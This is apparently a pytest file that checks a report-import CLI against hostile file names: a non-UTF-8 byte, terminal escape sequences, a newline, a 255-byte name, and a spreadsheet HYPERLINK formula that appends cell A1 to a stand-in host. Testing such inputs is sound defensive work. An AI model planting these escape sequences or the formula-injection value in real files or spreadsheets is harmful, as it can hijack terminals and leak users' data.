"""File names that used to crash or corrupt whole runs: a name that is not UTF-8 (a Latin-1 "ü" byte),
control characters and terminal escape sequences, a name at the file system's 255-byte limit, a
formula. Every file is imported (SQLite and a real PostgreSQL), stored losslessly, shown escaped,
written safely into xlsx and html; convert writes one output per file."""
from __future__ import annotations

import json
import os
import re
import zipfile
from pathlib import Path

import pytest

from tests.conftest import SAMPLES
from tests.support.bulk import as_record, query, run_cli, summary_count

LATIN1 = os.fsdecode(b"m\xfcller.txt")                # not UTF-8: Python holds it as "m\udcfcller.txt"
ESCAPE = "esc\x1b[31mred\x1b[0m\x07.txt"               # colours a terminal red and rings its bell
NEWLINE = "zwei\nzeilen.txt"
LONG = "l" * 251 + ".txt"                              # 255 bytes: the longest name a file system allows
FORMULA = "=HYPERLINK(\"https:\\\\example.invalid\"&A1;\"Klick\").txt"   # no "/" can be in a name
NAMES = {LATIN1: "march.txt", ESCAPE: "lahr.txt", NEWLINE: "hemsbach.txt", LONG: "aidlingen.txt",
         FORMULA: "dusslingen.txt"}


@pytest.fixture
def hostile(tmp_path) -> Path:
    folder = tmp_path / "berichte"
    folder.mkdir()
    for name, sample in NAMES.items():
        (folder / name).write_bytes((SAMPLES / "real" / sample).read_bytes())
    return folder


def no_raw_controls(text: str) -> bool:
    """Nothing a terminal would obey: no ESC, BEL, or other C0 control but line breaks and tabs."""
    return not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", text)


def test_import_stores_every_name_losslessly_and_shows_it_escaped(hostile, db, tmp_path):
    r = run_cli("import", hostile, "--db", db, "--workers", "2")
    assert r.returncode == 0, r.stdout + r.stderr
    assert "Traceback" not in r.stderr and summary_count(r.stdout, "imported now") == len(NAMES)
    assert no_raw_controls(r.stdout + r.stderr)
    assert "esc\\x1b[31mred" in r.stderr and "m\\xfcller.txt" in r.stderr   # progress lines, escaped

    rows = query(db, "SELECT path, raw_path, root, status, record FROM reports")
    assert len(rows) == len(NAMES) and all(row["status"] == "ok" for row in rows)
    by_raw = {bytes(row["raw_path"]) if row["raw_path"] is not None else os.fsencode(row["path"]): row for row in rows}
    for name in NAMES:
        raw = os.fsencode(hostile.resolve() / name)
        row = by_raw[raw]                                      # the exact bytes of every name are kept
        assert row["root"] == str(hostile.resolve())
        record = as_record(row["record"])
        assert record["source"]["file"].endswith(row["path"].rsplit("/", 1)[-1])
    latin = by_raw[os.fsencode(hostile.resolve() / LATIN1)]
    assert latin["path"].endswith("/m\\xfcller.txt") and latin["raw_path"] is not None
    assert by_raw[os.fsencode(hostile.resolve() / ESCAPE)]["path"].endswith(ESCAPE)   # valid text: kept as it is

    again = run_cli("import", hostile, "--db", db, "--workers", "2")          # the rerun that used to crash
    assert again.returncode == 0, again.stderr
    assert summary_count(again.stdout, "unchanged (already imported)") == len(NAMES)
    assert summary_count(again.stdout, "imported now") == 0

    table = run_cli("check", "--db", db)
    assert table.returncode == 0 and "Traceback" not in table.stderr
    assert no_raw_controls(table.stdout) and "esc\\x1b[31mred" in table.stdout

    page = tmp_path / "check.html"
    assert run_cli("check", "--db", db, "--html", page).returncode == 0
    html = page.read_text(encoding="utf-8")
    assert no_raw_controls(html) and "esc\\x1b[31mred" in html and "m\\xfcller.txt" in html

    from openpyxl import load_workbook
    book = tmp_path / "reports.xlsx"
    r = run_cli("export", "--db", db, "-o", book)
    assert r.returncode == 0, r.stderr
    paths = [row[0].value for row in load_workbook(book).active.iter_rows(min_row=2)]
    assert len(paths) == len(NAMES) and all(no_raw_controls(p) for p in paths)
    assert any(p.endswith("esc\\x1b[31mred\\x1b[0m\\x07.txt") for p in paths)
    assert any(p.endswith("zwei\\x0azeilen.txt") for p in paths)


def test_convert_writes_one_valid_record_per_hostile_name(hostile, tmp_path):
    out = tmp_path / "out"
    r = run_cli("convert", hostile, "-o", out)
    assert r.returncode == 0, r.stderr
    assert "Traceback" not in r.stderr and no_raw_controls(r.stderr)
    written = sorted(out.iterdir())
    assert r.stderr.strip().endswith(f"converted {len(written)} into {out}, failed 0")
    assert len(written) == len(NAMES)
    for path in written:
        assert path.stat().st_size > 0 and len(os.fsencode(path.name)) <= 255
        record = json.loads(path.read_bytes().decode("utf-8"))      # valid UTF-8 whatever the name
        assert record["source"]["file"]
    stems = {os.fsencode(p.name)[:-5] for p in written}
    assert os.fsencode(LATIN1)[:-4] in stems                     # the name's own bytes, not a replacement


def test_check_files_with_hostile_names(hostile):
    r = run_cli("check", *sorted(hostile.iterdir()), "--format", "csv", "--workers", "2")
    assert r.returncode == 0, r.stderr
    assert "Traceback" not in r.stderr and no_raw_controls(r.stdout.replace("\n", "")) and no_raw_controls(r.stderr)
    assert r.stdout.count("\n") == len(NAMES) + 1
    r = run_cli("check", *sorted(hostile.iterdir()), "--format", "json", "--workers", "2")
    paths = [rep["path"] for rep in json.loads(r.stdout)["reports"]]
    assert any(p.endswith("m\\xfcller.txt") for p in paths)


def test_xlsx_export_of_a_control_character_in_a_field(tmp_path):
    """A field holding a control character (openpyxl refuses them) is written escaped."""
    folder = tmp_path / "in"
    folder.mkdir()
    text = (SAMPLES / "real" / "march.txt").read_text(encoding="utf-8").replace("March\n", "March\x1b[2J\n", 1)
    (folder / "march.txt").write_text(text, encoding="utf-8")
    db = tmp_path / "r.db"
    assert run_cli("import", folder, "--db", db, "--workers", "1").returncode == 0
    out = tmp_path / "r.xlsx"
    r = run_cli("export", db, "-o", out)
    assert r.returncode == 0, r.stderr
    with zipfile.ZipFile(out) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "\x1b" not in sheet
